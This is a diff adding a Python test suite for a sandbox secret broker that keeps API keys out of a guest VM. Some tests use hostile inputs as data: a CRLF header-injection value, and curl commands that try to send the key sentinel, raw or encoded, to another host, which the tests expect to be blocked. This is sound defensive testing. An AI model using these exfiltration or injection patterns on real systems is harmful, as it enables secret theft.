@@ -1,0 +1,306 @@
+"""Secrets that never enter the guest (issue 4), with one machine and servers on the host's loopback."""
+import base64
+import json
+import os
+import pathlib
+import signal
+import subprocess
+import sys
+import time
+import unittest
+
+sys.path.insert(0, str(pathlib.Path(__file__).parent))
+import echo_server
+from echo_server import EchoServer
+from harness import Home, wait_for
+from mock_provider import make_ca
+
+KEY = "sk-proj-Zq8+real/KEY_0123456789abcdefXYZ"
+TOKEN = "ghp_realTOKEN0123456789abcdefABCDEF0123"
+
+
+def forms(secret):
+    return [f for f in echo_server.spellings(secret).split("\n") if f != "the end"]
+
+
+class Store(unittest.TestCase):
+    """Without a machine."""
+
+    def setUp(self):
+        self.h = Home()
+        self.addCleanup(self.h.close)
+
+    def test_set_list_remove(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode() + b"\n")
+        out = h.sbx("secret", "ls") + h.sbx("secret", "ls", "--json")
+        self.assertIn("api.openai.com", out)
+        self.assertNotIn(KEY, out)
+        for path in (h.dir / "data/sbx").rglob("*"):
+            if path.is_file() and not path.is_symlink():
+                self.assertNotIn(KEY.encode(), path.read_bytes(), path)
+        self.assertEqual((h.dir / "data/sbx/secrets/store.json").stat().st_mode & 0o777, 0o600)
+        self.assertEqual((h.dir / "data/sbx/secrets/key").stat().st_mode & 0o777, 0o600)
+        h.sbx("secret", "rm", "-g", "openai")
+        self.assertEqual(json.loads(h.sbx("secret", "ls", "--json")), [])
+        self.assertEqual(h.run("secret", "rm", "-g", "openai").returncode, 3)
+
+    def test_sources_and_bad_input(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "groq", "--from-env", "MY_KEY", env={"MY_KEY": "gsk_0123456789abcdef"})
+        (h.dir / "key.txt").write_text("xai-0123456789abcdef\n")
+        h.sbx("secret", "set", "-g", "xai", "--from-file", h.dir / "key.txt")
+        h.sbx("secret", "set", "-g", "mistral", "--command", "echo mistral-0123456789")
+        r = h.run("secret", "set", "-g", "github", "-t", TOKEN)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertIn(b"history", r.stderr)
+        self.assertEqual(len(json.loads(h.sbx("secret", "ls", "--json"))), 4)
+        before = (h.dir / "data/sbx/secrets/store.json").read_bytes()
+        (h.dir / "link").symlink_to(h.dir / "key.txt")
+        os.mkfifo(h.dir / "fifo")
+        for bad in (["-g", "openai", "--password-stdin"], ["-g", "nonsense", "--from-env", "MY_KEY"], ["-g", "openai", "--from-env", "NOT_SET"],
+                    ["-g", "openai"], ["openai", "--password-stdin"], ["-g", "openai", "--from-file", h.dir / "link"],
+                    ["-g", "openai", "--from-file", h.dir / "fifo"], ["-g", "openai", "--from-file", "/dev/zero"],
+                    ["-g", "openai", "-t", "has a space in it"], ["-g", "openai", "-t", "short"], ["-g", "openai", "-t", "a\r\nX-Evil: 1234567"],
+                    ["-g", "openai", "--form", "no-such-form", "-t", KEY]):
+            r = h.run("secret", "set", *bad, input=b"", timeout=20)
+            self.assertNotEqual(r.returncode, 0, bad)
+            self.assertEqual(len(r.stderr.decode().strip().split("\n")) , 2 if b"history" in r.stderr else 1, (bad, r.stderr))
+        self.assertEqual((h.dir / "data/sbx/secrets/store.json").read_bytes(), before)
+
+    test_threat_70_a_value_with_line_breaks_is_refused = test_sources_and_bad_input
+    test_threat_76_links_pipes_and_devices_are_not_read = test_sources_and_bad_input
+
+    def test_damage_is_told_and_loses_nothing(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "openai", "-t", KEY)
+        store = h.dir / "data/sbx/secrets/store.json"
+        good = store.read_text()
+        o = json.loads(good)
+        sentences = set()
+        for damaged in (good[:100], good.replace('"version": 1', '"version": 2').replace('"version":1', '"version":2'), json.dumps({**o, "data": o["data"][:40] + "AAAA" + o["data"][44:]})):
+            store.write_text(damaged)
+            r = h.run("secret", "ls")
+            self.assertEqual(r.returncode, 1)
+            sentences.add(r.stderr)
+            r = h.run("secret", "set", "-g", "groq", "-t", "gsk_0123456789abcdef")
+            self.assertEqual(r.returncode, 1)
+            self.assertEqual(store.read_text(), damaged)
+        store.write_text(good)
+        key = h.dir / "data/sbx/secrets/key"
+        key.chmod(0o644)
+        sentences.add(h.run("secret", "ls").stderr)
+        key.chmod(0o600)
+        self.assertGreaterEqual(len(sentences), 3, sentences)
+        self.assertIn("openai", h.sbx("secret", "ls"))
+
+    def test_passphrase(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "openai", "-t", KEY)
+        h.sbx("secret", "lock", "--passphrase", "--password-stdin", input=b"correct horse battery\n")
+        (h.dir / "pass").write_text("wrong horse battery\n")
+        # The kernel's keyring may remember the key for this user: a copy of the store with another salt does not profit.
+        r = h.run("secret", "ls")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        store = h.dir / "data/sbx/secrets/store.json"
+        o = json.loads(store.read_text())
+        o["wrap"]["salt"] = base64.b64encode(os.urandom(16)).decode()
+        store.write_text(json.dumps(o))
+        r = h.run("secret", "ls", env={"SBX_PASSPHRASE_FILE": str(h.dir / "pass")})
+        self.assertEqual(r.returncode, 1)
+        self.assertIn(b"passphrase", r.stderr)
+
+    def test_own_service(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "acme", "--host", "api.acme.example", "--header", "X-Acme-Key", "-t", "acme-0123456789abcdef")
+        row = json.loads(h.sbx("secret", "ls", "--json"))[0]
+        self.assertEqual((row["service"], row["hosts"]), ("acme", "api.acme.example"))
+        r = h.run("secret", "set", "-g", "all", "--host", "*.com", "-t", "acme-0123456789abcdef")
+        self.assertEqual(r.returncode, 1)
+        self.assertIn(b"*.com", r.stderr)
+
+
+class Guest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.h = h = Home()
+        names = ["api.openai.com", "github.com", "other.example", "api.acme.example"]
+        ca, certificate = make_ca(h.dir / "ca", *names)
+        cls.one = EchoServer(certificate)
+        cls.two = EchoServer(certificate, ("h2", "http/1.1") if echo_server.h2 else ("http/1.1",))
+        cls.plain = EchoServer()
+        h.sbx("config", "set", "net.ca", ca)
+        h.sbx("config", "set", "net.map", f"api.openai.com:443=127.0.0.1:{cls.one.port},github.com:443=127.0.0.1:{cls.two.port},"
+              f"other.example:443=127.0.0.1:{cls.one.port},api.openai.com:80=127.0.0.1:{cls.plain.port},api.acme.example:443=127.0.0.1:{cls.two.port}")
+        h.sbx("policy", "allow", "network", "-g", "api.openai.com,github.com,GET other.example/,api.acme.example")
+        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
+        h.sbx("secret", "set", "-g", "github", "--password-stdin", input=TOKEN.encode())
+        h.sbx("create", "--name", "s", "shell", h.ws)
+        h.sbx("start", "s")
+
+    @classmethod
+    def tearDownClass(cls):
+        for s in (cls.one, cls.two, cls.plain):
+            s.close()
+        cls.h.close()
+
+    def sh(self, script, status=0):
+        r = self.h.sh("s", script, timeout=60)
+        self.assertEqual(r.returncode, status, r.stdout[-2000:] + r.stderr[-2000:])
+        return r.stdout.decode(errors="replace")
+
+    def check_clean(self, text, secret):
+        for f in forms(secret):
+            self.assertNotIn(f, text)
+
+    def test_key_is_written_and_never_comes_back(self):
+        self.one.seen.clear()
+        sentinel = self.sh("printf %s $OPENAI_API_KEY")
+        self.assertEqual(len(sentinel), len(KEY))
+        self.assertNotEqual(sentinel, KEY)
+        self.assertTrue(sentinel.startswith("sk-proj-"))
+        out = self.sh("curl -sSi https://api.openai.com/v1/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"")
+        self.assertEqual(self.one.seen[-1][2]["authorization"], f"Bearer {KEY}")
+        self.assertEqual(self.one.seen[-1][2]["accept-encoding"], "identity")
+        self.check_clean(out, KEY)
+        for f in (sentinel, base64.b64encode(sentinel.encode()).decode(), json.dumps(sentinel)):
+            self.assertIn(f, out)
+        self.assertIn("the end", out)
+
+    def test_threat_65_every_split_chunked_events_and_compressed(self):
+        for path in ("/split", "/events"):
+            out = self.sh(f"curl -sSi https://api.openai.com{path}")
+            self.assertEqual(self.one.seen[-1][2]["authorization"], f"Bearer {KEY}")
+            self.check_clean(out, KEY)
+            self.assertIn(self.sh("printf %s $OPENAI_API_KEY"), out)
+        out = self.sh("curl -sSi --compressed https://api.openai.com/gzip")
+        self.assertIn("502", out.split("\n")[0])
+        self.check_clean(out, KEY)
+
+    def test_http2_with_trailers(self):
+        if not echo_server.h2:
+            self.skipTest("python3-h2 is not installed")
+        out = self.sh("curl -sSi --http2 https://github.com/x/y.git/info/refs?service=git-upload-pack")
+        self.assertIn("HTTP/2 200", out)
+        self.assertEqual(self.two.seen[-1][2]["authorization"], "Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode())
+        self.check_clean(out, TOKEN)
+        self.assertIn("the end", out)
+
+    def test_websocket(self):
+        out = self.sh("curl -sSi --http1.1 -N --max-time 5 https://api.openai.com/ws -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
+                      "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H 'Sec-WebSocket-Extensions: permessage-deflate' || true")
+        self.assertIn("101", out.split("\n")[0])
+        self.assertNotIn("sec-websocket-extensions", self.one.seen[-1][2])
+        sentinel = self.sh("printf %s $OPENAI_API_KEY")
+        self.assertNotIn(KEY, out)
+        self.assertNotIn(KEY[:len(KEY) // 2], out)
+        self.assertNotIn(KEY[len(KEY) // 2:], out)
+        self.assertEqual(out.count(sentinel), 1)  # the second has a frame's head in its middle
+        self.assertIn("ping", out)
+
+    def test_threat_73_another_accounts_key_is_replaced(self):
+        self.sh("curl -sS https://api.openai.com/v1/x -H 'Authorization: Bearer sk-attacker' -H 'authorization: Bearer sk-two' -H 'X-Api-Key: sk-three' -H 'Cookie: session=four' -o /dev/null")
+        sent = self.one.seen[-1][2]
+        self.assertEqual(sent["authorization"], f"Bearer {KEY}")
+        self.assertNotIn("x-api-key", sent)
+        self.assertNotIn("cookie", sent)
+
+    def test_threat_63_sentinel_to_another_host_is_blocked_with_an_alert(self):
+        n = len(self.one.seen)
+        for i, how in enumerate(('-H "X-Anything: $OPENAI_API_KEY"', '-H "Authorization: Basic $(printf user:$OPENAI_API_KEY | base64 -w0)"',
+                    '-H "X-Json: $(printf %s "$OPENAI_API_KEY" | od -An -tx1 -v | tr -d \' \\n\' | sed \'s/../%&/g\')"')):
+            out = self.sh(f"curl -sSi https://other.example/{i} {how}")
+            self.assertIn("403", out.split("\n")[0], how)
+        self.assertEqual(len(self.one.seen), n)
+        rows = json.loads(self.h.sbx("policy", "log", "s", "--raw", "--json", "--host", "other.example"))
+        alerts = [r for r in rows if r["kind"] == "alert"]
+        self.assertGreaterEqual(len(alerts), 3, rows)
+        self.assertIn("openai", alerts[0]["reason"])
+        self.sh("curl -sSf https://other.example/plain -o /dev/null")
+
+    test_threat_64_encoded_sentinels_are_blocked = test_threat_63_sentinel_to_another_host_is_blocked_with_an_alert
+
+    def test_threat_72_nothing_is_written_on_plain_http(self):
+        self.sh("curl -sS http://api.openai.com/x -H 'Authorization: Bearer nothing' -o /dev/null")
+        self.assertEqual(self.plain.seen[-1][2]["authorization"], "Bearer nothing")
+        n = len(self.plain.seen)
+        out = self.sh('curl -sSi http://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY"')
+        self.assertIn("403", out.split("\n")[0])
+        self.assertEqual(len(self.plain.seen), n)
+
+    def test_secrets_change_while_it_runs(self):
+        h = self.h
+        h.sbx("secret", "set", "-g", "acme", "--host", "api.acme.example", "--header", "X-Api-Key", "-t", "acme-first-0123456789")
+        def sent():
+            self.sh("curl -sSk --http1.1 https://api.acme.example/ -o /dev/null")
+            return self.two.seen[-1][2].get("x-api-key")
+        self.assertTrue(wait_for(lambda: sent() == "acme-first-0123456789", 5))
+        sentinel = self.sh("printf %s $ACME_API_KEY")
+        h.sbx("secret", "rotate", "-g", "acme", "-t", "acme-second-98765432109")
+        self.assertTrue(wait_for(lambda: sent() == "acme-second-98765432109", 5))
+        self.assertEqual(self.sh("printf %s $ACME_API_KEY"), sentinel)
+        h.sbx("secret", "rm", "-g", "acme")
+        self.assertTrue(wait_for(lambda: sent() is None, 5))
+
+    def test_threat_74_no_trace_outside_of_the_broker(self):
+        """The guest's memory and disk, the host's files, argument lists, environments, and the memory of every process but the broker."""
+        self.sh("curl -sS https://api.openai.com/split -o /tmp/answer; curl -sS https://github.com/x.git/info/refs -o /tmp/two; sync; env > /tmp/env")
+        time.sleep(0.5)
+        h = self.h
+        found = self.sh("grep -rl -e 'real/KEY_[0]123456789' -e 'realTOKEN[0]123456789' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null || true")
+        self.assertEqual(found.strip(), "")
+        for path in h.dir.rglob("*"):
+            if path.is_file() and not path.is_symlink() and path.stat().st_size < 1 << 30 and "ca" not in path.parts:
+                data = path.read_bytes()
+                self.assertFalse(b"real/KEY_0123456789" in data or b"realTOKEN0123456789" in data, path)
+        machine = json.loads(h.sbx("inspect", "s"))["machine"]
+        pids = [p for p in os.listdir("/proc") if p.isdigit()]
+        mine = {}
+        for p in pids:
+            try:
+                argv = pathlib.Path(f"/proc/{p}/cmdline").read_bytes()
+                environ = pathlib.Path(f"/proc/{p}/environ").read_bytes()
+            except OSError:
+                continue
+            if str(h.dir).encode() in environ:
+                mine[p] = argv.split(b"\0")
+                for where in (argv, environ):
+                    self.assertFalse(b"real/KEY_0123456789" in where or b"realTOKEN0123456789" in where, argv)
+        self.assertTrue(mine)
+        looked = 0
+        for p, argv in mine.items():
+            if len(argv) > 1 and argv[1] == b"broker":
+                continue
+            for needle in (b"real/KEY_0123456789", b"realTOKEN0123456789"):
+                self.assertFalse(in_memory(p, needle), argv)
+            looked += 1
+        self.assertGreaterEqual(looked, 4, mine)  # supervisor, net, fs, screen, QEMU (with the guest's memory)
+        self.assertTrue(machine)
+
+
+def in_memory(pid, needle):
+    """Whether the bytes stand anywhere in a process's memory."""
+    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+        for line in maps:
+            span, perms = line.split()[:2]
+            if perms[0] != "r" or "[v" in line:
+                continue
+            a, b = (int(x, 16) for x in span.split("-"))
+            at, tail = a, b""
+            while at < b:
+                try:
+                    mem.seek(at)
+                    chunk = mem.read(min(1 << 24, b - at))
+                except (OSError, ValueError):
+                    break
+                if not chunk:
+                    break
+                if needle in tail + chunk:
+                    return True
+                tail = chunk[-len(needle):]
+                at += len(chunk)
+    return False
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
